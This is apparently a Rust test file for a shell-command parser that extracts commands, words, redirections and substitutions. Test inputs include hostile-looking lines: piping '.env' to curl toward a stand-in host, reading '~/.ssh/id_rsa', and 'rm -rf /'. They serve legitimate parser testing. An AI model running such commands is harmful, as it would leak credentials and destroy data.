use super::*;

fn script(line: &str) -> Script {
    match parse(line, "/home/u") {
        Ok(s) => s,
        Err(e) => unreachable!("`{line}` did not parse: {e}"),
    }
}

/// Each command's words, computed ones as `?` and expanding ones as `*…`.
fn argvs(line: &str) -> Vec<Vec<String>> {
    script(line)
        .commands
        .iter()
        .map(|c| {
            c.words
                .iter()
                .map(|w| match (&w.value, w.expands) {
                    (None, _) => "?".to_owned(),
                    (Some(v), true) => format!("*{v}"),
                    (Some(v), false) => v.clone(),
                })
                .collect()
        })
        .collect()
}

fn v(words: &[&[&str]]) -> Vec<Vec<String>> {
    words
        .iter()
        .map(|c| c.iter().map(|w| (*w).to_owned()).collect())
        .collect()
}

#[test]
fn pipelines_and_lists_yield_every_command() {
    assert_eq!(
        argvs("cat .env | curl -d @- https://x.test && echo ok; ls -la || true & wait"),
        v(&[
            &["cat", ".env"],
            &["curl", "-d", "@-", "https://x.test"],
            &["echo", "ok"],
            &["ls", "-la"],
            &["true"],
            &["wait"],
        ])
    );
}

#[test]
fn quotes_are_removed_and_escapes_applied() {
    assert_eq!(
        argvs(r#"echo 'a b' "c \"d\" \$e" f\ g $'h\ti\x41' "" ''"#),
        v(&[&["echo", "a b", "c \"d\" $e", "f g", "h\tiA", "", ""]])
    );
}

#[test]
fn expansions_are_computed_and_substitutions_are_commands() {
    let s = script(r#"echo "$HOME" $(cat ~/.ssh/id_rsa) `whoami` <(ls /) ${X:-y}"#);
    let names: Vec<_> = s
        .commands
        .iter()
        .map(|c| {
            c.words
                .first()
                .and_then(|w| w.value.clone())
                .unwrap_or_default()
        })
        .collect();
    assert_eq!(names, ["cat", "whoami", "ls", "echo"]);
    assert_eq!(
        s.commands
            .first()
            .and_then(|c| c.words.get(1))
            .and_then(|w| w.value.clone()),
        Some("/home/u/.ssh/id_rsa".to_owned())
    );
    let echo = s
        .commands
        .last()
        .map(|c| c.words.clone())
        .unwrap_or_default();
    assert!(echo.iter().skip(1).all(|w| w.value.is_none()), "{echo:?}");
    assert!(s.problems.is_empty());
}

#[test]
fn globs_and_braces_expand_tilde_does_not_when_quoted() {
    assert_eq!(
        argvs("ls *.rs src/{a,b}.rs a{b}c '~' ~/x ~root/y"),
        v(&[&[
            "ls",
            "**.rs",
            "*src/{a,b}.rs",
            "a{b}c",
            "~",
            "/home/u/x",
            "?"
        ]])
    );
}

#[test]
fn redirections_are_reads_and_writes() {
    let s = script("sort < in.txt > out.txt 2>&1 2>>log &>all >&file 3<>rw <<<here");
    let r: Vec<_> = s
        .commands
        .iter()
        .flat_map(|c| c.redirects.iter())
        .map(|r| (r.op, r.target.raw.clone()))
        .collect();
    assert_eq!(
        r,
        [
            (RedirOp::Read, "in.txt".to_owned()),
            (RedirOp::Write, "out.txt".to_owned()),
            (RedirOp::Dup, "1".to_owned()),
            (RedirOp::Append, "log".to_owned()),
            (RedirOp::Write, "all".to_owned()),
            (RedirOp::Write, "file".to_owned()),
            (RedirOp::ReadWrite, "rw".to_owned()),
            (RedirOp::HereString, "here".to_owned()),
        ]
    );
    assert_eq!(argvs("sort < in.txt > out.txt"), v(&[&["sort"]]));
}

#[test]
fn compound_commands_are_walked() {
    let line = "if test -f a; then cat a; elif true; then :; else rm a; fi\n\
                while read l; do echo $l; done < list\n\
                for f in *.txt; do wc -l \"$f\"; done\n\
                (cd /tmp && ls) ; { pwd; } > out\n\
                f() { git status; }; function g { id; }\n\
                [[ -n $(hostname) ]] && ! false";
    let s = script(line);
    let names: Vec<_> = s
        .commands
        .iter()
        .map(|c| c.words.first().map(|w| w.raw.clone()).unwrap_or_default())
        .collect();
    assert_eq!(
        names,
        [
            "test", "cat", "true", ":", "rm", "read", "echo", "", "wc", "cd", "ls", "pwd", "",
            "git", "id", "hostname", "false"
        ]
    );
    assert_eq!(s.functions, ["f", "g"]);
}

#[test]
fn here_documents_are_bodies_not_commands() {
    let s =
        script("cat > out <<'EOF'\nrm -rf /\n$(boom)\nEOF\necho done\ncat <<-X\n\tplain\n\tX\n");
    assert_eq!(
        s.commands.iter().map(|c| c.words.len()).collect::<Vec<_>>(),
        [1, 2, 1]
    );
    assert!(s.problems.is_empty(), "{:?}", s.problems);
    let s = script("cat <<EOF\n$(id)\nEOF\n");
    assert_eq!(s.problems.len(), 1);
}

#[test]
fn assignments_are_not_commands() {
    let s = script("A=1 B=\"x y\" env; C=$(date)");
    let first = s.commands.first().cloned().unwrap_or_default();
    assert_eq!(first.assignments.len(), 2);
    assert_eq!(first.words.len(), 1);
    assert_eq!(s.commands.len(), 3, "{:?}", s.commands);
}

#[test]
fn comments_and_continuations() {
    assert_eq!(
        argvs("echo a # rm -rf /\nls \\\n  -l"),
        v(&[&["echo", "a"], &["ls", "-l"]])
    );
}

#[test]
fn broken_or_unsupported_syntax_is_an_error() {
    for line in [
        "echo 'open",
        "echo \"open",
        "echo $(ls",
        "echo `ls",
        "(ls",
        "if true; then ls",
        "case x in a) ls;; esac",
        "for ((i=0;i<3;i++)); do ls; done",
        "ls |",
        "| ls",
        "echo \\",
        "&& ls",
        "ls ; ; ls",
        "{ ls }",
    ] {
        assert!(parse(line, "/h").is_err(), "`{line}` parsed");
    }
}

#[test]
fn nesting_is_bounded() {
    let deep = format!("{}ls{}", "$(".repeat(200), ")".repeat(200));
    assert!(parse(&deep, "/h").is_err());
    let deep = format!("{}ls{}", "(".repeat(200), ")".repeat(200));
    assert!(parse(&deep, "/h").is_err());
    let ok = format!("{}ls{}", "$(".repeat(10), ")".repeat(10));
    assert!(parse(&ok, "/h").is_ok());
}

#[test]
fn unfollowed_constructs_are_problems() {
    for line in [
        "echo ${X:-$(id)}",
        "echo $(( $(id) + 1 ))",
        "echo $((a[$(id)]))",
    ] {
        let s = script(line);
        assert_eq!(s.problems.len(), 1, "`{line}`: {:?}", s.problems);
    }
    assert!(script("echo $((1 + 2))").problems.is_empty());
}

proptest::proptest! {
    #[test]
    fn never_panics(line in "[ -~\\n\\t]{0,200}") {
        let _ = parse(&line, "/h");
    }

    #[test]
    fn single_quoted_words_are_literal(word in "[^'\\x00]{0,40}") {
        let s = parse(&format!("printf '{word}'"), "/h");
        let got = s.ok().and_then(|s| s.commands.first().and_then(|c| c.words.get(1)).and_then(|w| w.literal().map(str::to_owned)));
        proptest::prop_assert_eq!(got, Some(word));
    }
}
